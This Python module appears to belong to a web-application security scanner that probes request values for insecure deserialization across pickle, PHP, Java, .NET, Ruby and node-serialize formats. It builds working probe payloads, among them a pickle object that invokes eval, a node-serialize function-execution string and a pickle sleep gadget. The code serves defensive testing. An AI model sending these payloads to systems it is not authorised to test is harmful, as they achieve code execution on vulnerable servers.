"""Objects written by one program and read by another: who can send them chooses what the reader does."""

import re
from base64 import b64decode, b64encode
from binascii import Error
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from re import Pattern
from urllib.parse import unquote

from threatweaver_appsec.engine.agent import (
    About,
    Agent,
    Attempt,
    Nonce,
    PointAgent,
    Proof,
    Safety,
    Severity,
    Sight,
)
from threatweaver_appsec.engine.agents.attacks import excerpt, in_request, prints, text_of
from threatweaver_appsec.engine.agents.delays import waits
from threatweaver_appsec.engine.messages import Exchange
from threatweaver_appsec.engine.points import Point


@dataclass(frozen=True)
class Format:
    """A way in which a language writes objects, and what its reader says of a broken one."""

    name: str
    raw: Pattern[bytes]
    complains: Pattern[str]


FORMATS = (
    Format(
        "pickle",
        re.compile(rb"^(\x80[\x02-\x05]|\xef\xbf\xbd[\x02-\x05]|[(\]}][dlp]p?\d|c[\w.]+\n\w+\n|\(dp|\(lp)"),
        re.compile(r"UnpicklingError|pickle data was truncated|could not find MARK|pickle\.\w+Error"),
    ),
    Format(
        "PHP",
        re.compile(rb'^(O:\d+:"|a:\d+:\{|s:\d+:"|C:\d+:")'),
        re.compile(r"unserialize\(\).{0,40}Error at offset|__PHP_Incomplete_Class"),
    ),
    Format(
        "Java",
        re.compile(rb"^\xac\xed\x00\x05"),
        re.compile(r"java\.io\.(StreamCorrupted|InvalidClass|EOF|OptionalData|UTFDataFormat)Exception"),
    ),
    Format(
        ".NET",
        re.compile(rb"^\x00\x01\x00\x00\x00\xff\xff\xff\xff"),
        re.compile(r"SerializationException|BinaryFormatter"),
    ),
    Format(
        "Ruby",
        re.compile(rb"^\x04\x08[\[{oIu\":]"),
        re.compile(r"marshal data too short|incompatible marshal file format|undefined class/module"),
    ),
    Format("node-serialize", re.compile(rb"_\$\$ND_FUNC\$\$_|^\{\"\w+\":\""), re.compile(r"node-serialize")),
)
NAMED = re.compile(r"pickle|serial|object|marshal|viewstate|^obj$|session_?data|^state$", re.IGNORECASE)


def _decoded(text: str) -> tuple[bytes, bool]:
    """The bytes that a value stands for, and whether they were Base64."""
    plain = unquote(text)
    if re.fullmatch(r"[A-Za-z0-9+/_-]{8,}={0,2}", plain):
        try:
            padded = plain.replace("-", "+").replace("_", "/") + "=" * (-len(plain) % 4)
            return b64decode(padded), True
        except Error:
            pass
    return plain.encode(), False


def _format_of(point: Point) -> tuple[Format | None, bool]:
    raw, encoded = _decoded(text_of(point))
    return next((one for one in FORMATS if one.raw.search(raw)), None), encoded


def _writer(point: Point) -> Callable[[str], str]:
    encoded = _format_of(point)[1]
    return lambda text: b64encode(text.encode()).decode() if encoded else text


def _wants(point: Point, baseline: Exchange) -> bool:
    return in_request(point, baseline) and bool(_format_of(point)[0] or NAMED.search(point.name))


def _wants_pickle(point: Point, baseline: Exchange) -> bool:
    found = _format_of(point)[0]
    return _wants(point, baseline) and (found is None or found.name == "pickle")


def _reading(point: Point, baseline: Exchange, nonce: Nonce) -> Iterator[Attempt]:
    del baseline
    write, found = _writer(point), _format_of(point)[0]
    one, two, word = nonce.number(1_000, 9_999), nonce.number(1_000, 9_999), nonce.word(6)
    shown = prints(f"{word}{one * two}", "The server read the value as an object, and did what it says.")
    pickle = f"c__builtin__\neval\n(V'{word}'+str({one}*{two})\ntR."
    yield Attempt((write(pickle),), shown, (write(pickle.replace("eval", "evil")),))
    node = f'{{"x":"_$$ND_FUNC$$_function(){{return \'{word}\'+{one}*{two}}}()"}}'
    yield Attempt((write(node),), shown, (write(node.replace("ND_FUNC", "ND_FUNK")),))
    if found:
        whole = text_of(point)
        broken = _complaint(found)
        yield Attempt((whole[: max(4, len(whole) // 2) // 4 * 4],), broken, (whole,))


def _complaint(form: Format) -> Callable[[Sight], Proof | None]:
    def shows(sight: Sight) -> Proof | None:
        for one in sight.exchanges:
            said = form.complains.search(one.text)
            if said and not form.complains.search(sight.baseline.text):
                says = f"Half of the value makes the reader of {form.name} objects complain."
                return Proof(says, excerpt(one.text, *said.span()), (one,), severity=Severity.MEDIUM)
        return None

    return shows


def _waiting(point: Point, baseline: Exchange, nonce: Nonce) -> Iterator[Attempt]:
    del baseline
    write = _writer(point)
    says = "The server read the value as an object of Python's, which waits as long as it says."
    yield from waits(lambda seconds: write(f"ctime\nsleep\n(F{seconds:g}\ntR."), nonce, says)


def _about(ident: str, safety: Safety) -> About:
    return About(
        id=ident,
        title="Deserialization of untrusted data",
        cwe=502,
        owasp="A08:2021",
        severity=Severity.CRITICAL,
        safety=safety,
        description="The server reads objects that are sent to it: their writer chooses what runs meanwhile.",
        remedy="Exchange data as JSON with a schema; where objects must be kept outside, sign them.",
    )


AGENTS: tuple[Agent, ...] = (
    PointAgent(_about("deserialization", Safety.SAFE), wants=_wants, attempts=_reading),
    PointAgent(_about("deserialization-time", Safety.INTRUSIVE), wants=_wants_pickle, attempts=_waiting),
)
